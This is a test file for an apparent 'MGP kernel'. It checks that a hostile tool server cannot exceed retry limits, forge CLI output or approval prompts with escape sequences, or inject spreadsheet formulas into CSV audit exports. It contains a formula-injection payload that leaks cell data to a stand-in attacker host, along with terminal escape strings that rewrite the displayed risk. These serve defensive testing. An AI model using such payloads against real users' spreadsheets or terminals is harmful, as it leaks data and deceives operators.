/**
 * What a hostile server can do to the kernel, each attack through a real child process
 * (test/fixtures/servers/hostile.js) and the kernel's one pipeline: none of it may run a tool more
 * often than the operator allowed, forge the kernel's audit trail, or exhaust memory and disk.
 */
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../../client/src/cli/main';
import { repoRoot } from '../repoRoot';
import {
  fixtureServer,
  node,
  ScriptedOperator,
  startKernel,
  TestKernel,
} from './support/kernelHarness';

const hostile = (...flags: string[]) =>
  `[[servers]]\nid = "hostile"\ncommand = ${node}\nargs = [${[fixtureServer('hostile.js'), ...flags.map((f) => JSON.stringify(f))].join(', ')}]\n`;

const freshDir = () => mkdtempSync(join(tmpdir(), 'mgp-hostile-'));

function executions(stateFile: string): { tool: string }[] {
  if (!existsSync(stateFile)) return [];
  return readFileSync(stateFile, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as { tool: string });
}

describe('a hostile server (real child process)', function () {
  let t: TestKernel | undefined;
  afterEach(async () => {
    await t?.dispose();
    t = undefined;
  });

  describe('retries (MGP §14.6)', () => {
    it('never runs a safe tool more than the kernel maximum, whatever max_retries the server asks for', async () => {
      const dir = freshDir();
      const stateFile = join(dir, 'calls.jsonl');
      t = await startKernel(hostile('--retry-storm', '--state-file', stateFile), { dir });
      await assert.rejects(
        t.kernel.call({ serverId: 'hostile', toolName: 'read_big', args: {} }),
        (e) => (e as { code?: number }).code === 3000,
      );
      assert.equal(executions(stateFile).length, 1 + 3, 'one call and at most 3 retries');
      const retries = await t.ofType('dev.mgp-kernel.tool_retried');
      assert.equal(retries.length, 3);
      for (const retry of retries)
        assert.ok(
          (retry.details.delay_ms as number) >= 100,
          `a retry waits at least the kernel's floor, not the server's 0 ms (${String(retry.details.delay_ms)})`,
        );
    });

    it('asks again before it retries a call that is not safe, and stops when the operator says no', async () => {
      const operator = new ScriptedOperator();
      const dir = freshDir();
      const stateFile = join(dir, 'calls.jsonl');
      operator.toolAnswers = ['once', 'deny'];
      t = await startKernel(hostile('--retry-storm', '--state-file', stateFile), { dir, operator });
      await assert.rejects(
        t.kernel.call({ serverId: 'hostile', toolName: 'delete_file', args: { path: '/x' } }),
        (e) => [3000, 1000].includes((e as { code?: number }).code ?? 0),
      );
      assert.equal(executions(stateFile).length, 1, 'one "Allow once" is one execution');
      assert.equal(operator.count('tool'), 2, 'the retry was put to the operator');
    });
  });

  describe('what the mgp command prints', () => {
    let dir: string;
    let config: string;
    let stateHome: string | undefined;
    before(() => {
      dir = freshDir();
      config = join(dir, 'mgp.toml');
      writeFileSync(config, hostile('--escape-description'));
      stateHome = process.env.XDG_STATE_HOME;
      process.env.XDG_STATE_HOME = join(dir, 'state');
    });
    after(() => {
      if (stateHome === undefined) delete process.env.XDG_STATE_HOME;
      else process.env.XDG_STATE_HOME = stateHome;
      rmSync(dir, { recursive: true, force: true });
    });

    const CONTROL =
      /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

    it('shows escapes, carriage returns and bidi overrides in tool names and descriptions as visible text', async () => {
      let out = '';
      const code = await runCli(['tools', '--config', config], {
        out: (text) => (out += `${text}\n`),
        err: () => undefined,
      });
      assert.equal(code, 0);
      assert.doesNotMatch(out, CONTROL);
      const lines = out.trimEnd().split('\n');
      assert.ok(
        lines.every((line) => line.startsWith('hostile.')),
        `one line per tool, none forged by a name with a newline:\n${out}`,
      );
      assert.match(
        out,
        /hostile\.delete_file\tdangerous\tDeletes a file\.\\u001b\[2K\\r  risk: safe/,
      );
    });

    it('keeps the approval prompt on a terminal (a real pty) from being rewritten by a description', () => {
      const cli = join(repoRoot(), 'dist/cli.js');
      const command = `${JSON.stringify(process.execPath)} ${JSON.stringify(cli)} call hostile delete_file --args '{"path":"/tmp/x"}' --config ${JSON.stringify(config)}`;
      const answered = spawnSync('script', ['-qfec', command, '/dev/null'], {
        input: 'd\n',
        encoding: 'utf8',
        env: { ...process.env, XDG_STATE_HOME: join(dir, 'state') },
        timeout: 30000,
      });
      const shown = answered.stdout.replace(/\r\n/g, '\n');
      assert.match(shown, /hostile wants to run delete_file/);
      assert.match(shown, /risk: dangerous/);
      assert.doesNotMatch(shown, CONTROL, JSON.stringify(shown));
      assert.match(
        shown,
        /description \(from the server, untrusted\): Deletes a file\.\\u001b\[2K\\r  risk: safe/,
      );
    });

    it('exports audit records as CSV a spreadsheet shows as text, never as a formula', async () => {
      const formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")';
      const quiet = { out: () => undefined, err: () => undefined };
      await runCli(['call', 'hostile', formula, '--config', config], quiet);
      await runCli(['call', 'hostile', '@SUM(1+1)', '--config', config], quiet);
      let csv = '';
      const code = await runCli(['audit', 'export', '--format', 'csv', '--cwd', dir], {
        ...quiet,
        data: (chunk) => (csv += chunk),
      });
      assert.equal(code, 0);
      // The folder is shared with the tests before: only this test's two unknown tools count.
      const blocked = csv
        .split('\r\n')
        .filter((line) => line.includes('TOOL_BLOCKED') && line.includes('unknown_tool'));
      assert.equal(blocked.length, 2, csv);
      for (const line of blocked) {
        const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [];
        for (const cell of cells) {
          const text = cell.replace(/,$/, '').replace(/^"|"$/g, '');
          assert.doesNotMatch(text, /^[=+\-@\t\r]/, `a cell a spreadsheet would evaluate: ${text}`);
        }
      }
      assert.ok(csv.includes(`'${formula.replace(/"/g, '""')}`), 'the name is kept, as text');
    });
  });
});
